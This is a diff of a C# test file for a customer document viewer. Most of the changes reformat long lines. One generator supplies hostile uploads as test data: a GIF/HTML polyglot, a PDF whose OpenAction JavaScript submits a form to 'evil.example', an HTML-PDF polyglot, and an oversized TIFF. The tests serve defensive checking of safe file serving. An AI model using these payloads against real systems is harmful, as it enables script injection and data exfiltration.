@@ -44,9 +44,12 @@ sealed class ViewerTests
 
         await officer.ShowValues(customer);
 
-        var size = await officer.Page.Locator(".photo img").EvaluateAsync<int[]>("async img => { await img.decode(); return [img.naturalWidth, img.naturalHeight]; }");
+        var size =
+            await officer.Page.Locator(".photo img").EvaluateAsync<int[]>(
+            "async img => { await img.decode(); return [img.naturalWidth, img.naturalHeight]; }");
         Assert.That(size, Is.EqualTo((int[])[320, 200]));
-        var audit = (await stage.Server.Look($"/customers/{customer}/audit")).Items("audit").Select(line => $"{line.GetProperty("detail")}");
+        var audit = (await stage.Server.Look($"/customers/{customer}/audit")).Items("audit").Select(line =>
+            $"{line.GetProperty("detail")}");
         Assert.That(audit, Has.Some.StartsWith("photo_id_front document="), "the look is in the audit log");
     }
 
@@ -78,8 +81,10 @@ sealed class ViewerTests
     static IEnumerable<TestCaseData> Hostile()
     {
         var gif = "GIF89a/*"u8.ToArray();
-        yield return new TestCaseData(gif.Concat(System.Text.Encoding.ASCII.GetBytes($"*/=1;{Script}")).ToArray()).SetArgDisplayNames("GIF with HTML");
-        yield return new TestCaseData(Papers.Pdf("x", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example'\\)) >>"))
+        yield return new TestCaseData(gif.Concat(System.Text.Encoding.ASCII.GetBytes($"*/=1;{Script}")).ToArray()).SetArgDisplayNames(
+            "GIF with HTML");
+        yield return new TestCaseData(Papers.Pdf("x",
+            "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('https://evil.example'\\)) >>"))
             .SetArgDisplayNames("PDF with script");
         yield return new TestCaseData(System.Text.Encoding.ASCII.GetBytes($"<html>{Script}<!-- ").Concat(Papers.Pdf("x")).ToArray())
             .SetArgDisplayNames("HTML that is a PDF");
@@ -94,7 +99,8 @@ sealed class ViewerTests
     {
         (ushort Tag, ushort Kind, uint Count, uint Value)[] entries =
         [
-            (256, 4, 1, 1_000_000), (257, 4, 1, 1_000_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200), (277, 3, 1, 1),
+            (256, 4, 1, 1_000_000), (257, 4, 1, 1_000_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 200),
+                (277, 3, 1, 1),
             (278, 4, 1, 1_000_000), (279, 4, 1, 4),
         ];
         using var bytes = new MemoryStream();
@@ -127,7 +133,8 @@ sealed class ViewerTests
         var response = await officer.Context.APIRequest.GetAsync(path!);
 
         Assert.That(response.Headers["x-content-type-options"], Is.EqualTo("nosniff"));
-        Assert.That(response.Headers["content-type"], Is.EqualTo("application/pdf").Or.StartsWith("image/").Or.EqualTo("application/octet-stream"));
+        Assert.That(response.Headers["content-type"],
+            Is.EqualTo("application/pdf").Or.StartsWith("image/").Or.EqualTo("application/octet-stream"));
         Assert.That(await officer.Page.TitleAsync(), Does.StartWith("Customer"));
         Assert.That((await officer.Open("/console/status"))!.Status, Is.EqualTo(200), "the server goes on");
     }
